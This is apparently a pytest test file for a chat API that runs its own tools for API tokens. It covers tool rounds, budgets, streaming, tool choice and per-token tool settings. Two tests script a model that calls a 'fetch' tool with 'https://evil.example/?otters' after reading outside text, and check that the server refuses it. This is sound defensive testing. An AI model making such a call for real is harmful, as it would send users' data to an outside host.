"""Answers for programs whose token may use tools: these are done before the program sees anything, and its own are passed on."""

import json
from decimal import Decimal
from typing import Any

import pytest
from flask import Flask

from tests.api.client import Client
from tests.support.people import user_with_password
from tests.upstream.fixtures import app
from webapp.base.audit import COMMAND_LINE
from webapp.base.db import db, write
from webapp.base.errors import Invalid, NotFound
from webapp.operations.budgets import service
from webapp.operations.budgets.service import BudgetInput
from webapp.people.accounts import tokens
from webapp.people.accounts.tables import ApiToken, User
from webapp.settings.service import set_setting
from webapp.streaming.codec import SseDecoder
from webapp.tools.policies import decide
from webapp.tools.service import set_token_tools
from webapp.tools.token_tools import offers_alone
from webapp.tools.tool import READS, READS_THE_WORLD, Hints, Result, Tool, ToolFailed
from webapp.web.feature import BROUGHT

__all__ = ["app"]
QUESTION = {"role": "user", "content": "How many are there?"}
SCHEMA = {"type": "object", "properties": {"what": {"type": "string"}}, "required": ["what"]}
WEATHER = {"type": "function", "function": {"name": "get_weather", "parameters": {"type": "object"}}}


class Program:
    """A program with a token that may use the tools *count*, and *fetch*, which reaches the world."""

    def __init__(self, app: Flask) -> None:
        self.app, self.done = app, list[str]()
        for key, hints in (("count", READS), ("fetch", READS_THE_WORLD), ("change", Hints())):
            tool = Tool(key, key.title(), f"{key}s.", SCHEMA, lambda _: "Called", self._run, hints=hints, policy="allow")
            BROUGHT.of(app)[Tool].append(tool)
        with app.app_context():
            set_setting("models.titles", "off")
            self.user = user_with_password("ada@example.org", "member").id
            self.client = Client(app, tokens.make_token(db.session.get_one(User, self.user), "a program", ("chat", "read")))
            self.token_id = db.session.scalar(db.select(ApiToken.id).where(ApiToken.user_id == self.user))
        self.choose("count", "fetch")

    def _run(self, _context: Any, arguments: Any) -> Result:
        self.done.append(arguments["what"])
        if arguments["what"] == "broken":
            raise ToolFailed("It is broken.", outside=("example.org",))
        return Result(f"There are 7 {arguments['what']}.", outside=("example.org",))

    def choose(self, *keys: str) -> None:
        with self.app.app_context():
            set_token_tools(db.session.get_one(User, self.user), self.token_id, keys, author=COMMAND_LINE)

    def completed(self, **body: Any) -> Any:
        body = {"model": "some/model", "messages": [QUESTION], **body}
        return self.client.post("/v1/chat/completions", body)["choices"][0]

    def chunks(self, **body: Any) -> list[Any]:
        body = {"model": "some/model", "messages": [QUESTION], "stream": True, **body}
        response = self.client.call("POST", "/v1/chat/completions", body)
        decoder = SseDecoder()
        told = [event.data for piece in response.iter_encoded() for event in decoder.feed(piece)]
        assert told[-1] == "[DONE]"
        return [json.loads(data) for data in told[:-1]]


@pytest.fixture
def program(app: Flask) -> Program:
    return Program(app)


def calling(what: str, tool: str = "count") -> dict[str, Any]:
    return {"tool": tool, "arguments": {"what": what}}


def rounds(fake: Any, *calls: list[dict[str, Any]], says: str = "Seven.") -> None:
    fake.always({"rounds": [*({"calls": made} for made in calls), {"says": says}]})


def results(fake: Any) -> list[str]:
    return [turn["content"] for turn in fake.posts()[-1]["body"]["messages"] if turn["role"] == "tool"]


def test_calls_are_done_before_the_program_sees_anything(program: Program, fake) -> None:
    rounds(fake, [calling("otters"), calling("herons")], [calling("eels")])

    choice = program.completed()

    assert (choice["finish_reason"], choice["message"]["content"]) == ("stop", "Seven.")
    assert "tool_calls" not in choice["message"]
    assert program.done == ["otters", "herons", "eels"]
    assert results(fake) == ["There are 7 otters.", "There are 7 herons.", "There are 7 eels."]


def test_a_stream_has_the_text_of_all_rounds_one_end_and_the_usage_of_all(program: Program, fake) -> None:
    first = {"says": "I look.", "calls": [calling("otters")], "usage": {"prompt_tokens": 5, "completion_tokens": 3}}
    last = {"says": "Seven.", "usage": {"prompt_tokens": 9, "completion_tokens": 2}}
    fake.always({"rounds": [first, last]})

    *told, usage = program.chunks(stream_options={"include_usage": True})

    deltas = [chunk["choices"][0]["delta"] for chunk in told]
    assert "".join(delta.get("content") or "" for delta in deltas) == "I look.\n\nSeven."
    assert [chunk["choices"][0]["finish_reason"] for chunk in told][-1] == "stop"
    assert sum(bool(chunk["choices"][0]["finish_reason"]) for chunk in told) == 1
    assert usage["usage"] == {"prompt_tokens": 14, "completion_tokens": 5, "total_tokens": 19}


def test_the_programs_own_calls_are_passed_on_after_those(program: Program, fake) -> None:
    rounds(fake, [calling("otters")], [{"tool": "get_weather", "arguments": {"city": "Bern"}}])

    choice = program.completed(tools=[WEATHER])

    assert choice["finish_reason"] == "tool_calls"
    assert [call["function"]["name"] for call in choice["message"]["tool_calls"]] == ["get_weather"]
    assert program.done == ["otters"]
    assert sorted(tool["function"]["name"] for tool in fake.posts()[0]["body"]["tools"]) == ["count", "fetch", "get_weather"]


def test_of_a_round_with_both_ours_are_done_and_kept_for_the_next_request(program: Program, fake) -> None:
    both = [calling("otters"), {"tool": "get_weather", "arguments": {}}, calling("herons")]
    fake.always({"rounds": [{"says": "I look.", "calls": [calling("eels")]}, {"says": "Now.", "calls": both}, {"says": "Rain."}]})

    message = program.completed(tools=[WEATHER])["message"]

    assert [call["function"]["name"] for call in message["tool_calls"]] == ["get_weather"]
    assert (message["content"], sorted(program.done)) == ("I look.\n\nNow.", ["eels", "herons", "otters"])
    returned = {"role": "tool", "tool_call_id": message["tool_calls"][0]["id"], "content": "It rains."}
    again = program.completed(messages=[QUESTION, message, returned], tools=[WEATHER])
    assert again["message"]["content"] == "Rain."
    # The model gets what it said and called, in its order, as in one answer.
    sent = fake.posts()[-1]["body"]["messages"][1:]
    words = [sent[0]["content"], *sent[1:2], sent[2]["content"].strip()]
    assert (words[0], words[1]["content"], words[2]) == ("I look.", "There are 7 eels.", "Now.")
    assert [call["function"]["name"] for call in sent[2]["tool_calls"]] == ["count", "get_weather", "count"]
    assert results(fake) == ["There are 7 eels.", "There are 7 otters.", "It rains.", "There are 7 herons."]
    assert sorted(program.done) == ["eels", "herons", "otters"]


def test_what_was_kept_stays_outside_text_and_is_for_programs_with_tools(program: Program, fake) -> None:
    carrying = calling("https://evil.example/?otters", "fetch")
    rounds(fake, [calling("otters"), {"tool": "get_weather", "arguments": {}}], [carrying])
    message = program.completed(tools=[WEATHER])["message"]
    returned = {"role": "tool", "tool_call_id": message["tool_calls"][0]["id"], "content": "It rains."}
    program.completed(messages=[QUESTION, message, returned], tools=[WEATHER])
    assert program.done == ["otters"]
    assert "permission" in results(fake)[-1]

    program.choose()
    program.completed(messages=[QUESTION, message, returned], tools=[WEATHER])

    assert results(fake) == ["It rains."]


def test_a_tool_of_the_program_with_the_same_name_is_the_programs(program: Program, fake) -> None:
    rounds(fake, [calling("otters")])
    own = {"type": "function", "function": {"name": "count", "parameters": {"type": "object"}}}

    choice = program.completed(tools=[own])

    assert [call["function"]["name"] for call in choice["message"]["tool_calls"]] == ["count"]
    assert program.done == []


@pytest.mark.parametrize(
    ("call", "words"),
    [
        ({"tool": "count", "arguments": "{"}, "not valid JSON"),
        ({"tool": "count", "arguments": {}}, "what is missing"),
        (calling("broken"), "It is broken."),
        (calling("otters", "change"), "no tool named change"),
    ],
)
def test_what_fails_goes_back_to_the_model(program: Program, fake, call, words) -> None:
    rounds(fake, [call])

    assert program.completed()["message"]["content"] == "Seven."
    assert words in results(fake)[0]


@pytest.mark.parametrize("what", ["otters", "broken"])
def test_what_could_carry_outside_text_out_is_refused_as_nobody_can_be_asked(program: Program, fake, what) -> None:
    rounds(fake, [calling(what)], [calling("https://evil.example/?otters", "fetch")])

    assert program.completed()["message"]["content"] == "Seven."
    assert program.done == [what]
    assert "permission" in results(fake)[1]


def test_a_model_that_calls_for_ever_must_answer(program: Program, fake) -> None:
    fake.always({"says": "Hm.", "calls": [calling("otters")]})
    with program.app.app_context():
        set_setting("tools.rounds", "5")

    choice = program.completed()

    assert choice["finish_reason"] == "stop"
    assert len(fake.posts()) == 6
    assert [post["body"].get("tool_choice") for post in fake.posts()] == [None] * 5 + ["none"]
    assert program.done == ["otters"] * 3
    assert "called before" in results(fake)[-1]


def test_further_rounds_count_towards_budgets(program: Program, fake) -> None:
    rounds(fake, [calling("otters " * 5_000)], [calling("herons")])
    with program.app.app_context():
        service.create(BudgetInput(who="team", unit="tokens", limit=Decimal(5_000), period="month"), author=COMMAND_LINE)

    # The budget can be exceeded by one request, as by one answer.
    assert program.completed()["finish_reason"] == "length"
    assert len(fake.posts()) == 2


def test_a_model_that_calls_although_it_may_not_has_ended(program: Program, fake) -> None:
    fake.always({"says": "Hm.", "calls": [calling("otters")], "ignores_choice": True})
    with program.app.app_context():
        set_setting("tools.rounds", "1")

    choice = program.completed()

    assert (choice["finish_reason"], choice["message"]["content"], len(fake.posts())) == ("stop", "Hm.\n\nHm.", 2)


@pytest.mark.parametrize("body", [{"tool_choice": "none"}, {"tools": [WEATHER], "tool_choice": "required"}])
def test_the_choice_of_the_program_holds(program: Program, fake, body) -> None:
    fake.says("Fine.")

    program.completed(**body)

    names = [tool["function"]["name"] for tool in fake.posts()[0]["body"].get("tools", ())]
    assert names == [tool["function"]["name"] for tool in body.get("tools", ())]


def test_only_tools_that_need_nobody_can_be_chosen_and_are_used(program: Program, fake) -> None:
    with program.app.app_context():
        person = db.session.get_one(User, program.user)
        keys = {offer.tool.key for offer in offers_alone(person)}
        assert {"count", "fetch", "search_documents"} <= keys
        assert not {"change", "ask_person"} & keys
        for key in ("change", "ask_person", "no_such"):
            with pytest.raises(Invalid):
                set_token_tools(person, program.token_id, [key], author=COMMAND_LINE)
        with pytest.raises(NotFound):
            set_token_tools(person, "another", ["count"], author=COMMAND_LINE)
        with write() as session:
            decide(session, "count", "ask", user_id=program.user)
    fake.says("Fine.")
    program.completed()
    assert [tool["function"]["name"] for tool in fake.posts()[0]["body"]["tools"]] == ["fetch"]
    program.choose()
    program.completed()
    assert "tools" not in fake.posts()[-1]["body"]


def test_a_stopped_stream_ends_between_two_rounds(program: Program, fake) -> None:
    fake.always({"rounds": [{"calls": [calling("otters")]}, {"says": "Seven or so.", "cut_after": 1}]})

    *_, last = program.chunks()

    assert last["error"]["code"] == "cut"


def test_its_person_chooses_them_on_a_page_and_by_the_api(app: Flask, member, stranger) -> None:
    with app.app_context():
        person = db.session.scalar(db.select(User).where(User.email == "member@example.org"))
        tokens.make_token(person, "a <program>", ("chat",))
        id = db.session.scalar(db.select(ApiToken.id).where(ApiToken.user_id == person.id))
    path = f"/settings/tools/tokens/{id}"
    assert "a &lt;program&gt;" in member.page(path).text
    assert member.post(path, tools=["read_page", "search_documents"]).status_code == 303
    page = member.page(path)
    assert {box.attributes["value"] for box in page.all("input[name=tools][checked]")} == {"read_page", "search_documents"}
    assert member.post(path, tools=["ask_person"]).status_code == 422
    assert stranger.get(path).status_code == 404
    assert stranger.post(path, tools=["read_page"]).status_code == 404
    api = Client(app, browser=member)
    (listed,) = api.get("/tokens")["tokens"]
    assert listed["tools"] == ["read_page", "search_documents"]
    assert api.said("PATCH", f"/tokens/{id}", 200, {"tools": []})["tools"] == []
    api.said("PATCH", f"/tokens/{id}", 422, {"tools": ["ask_person"]})
    api.said("PATCH", "/tokens/nothing", 404, {"tools": []})
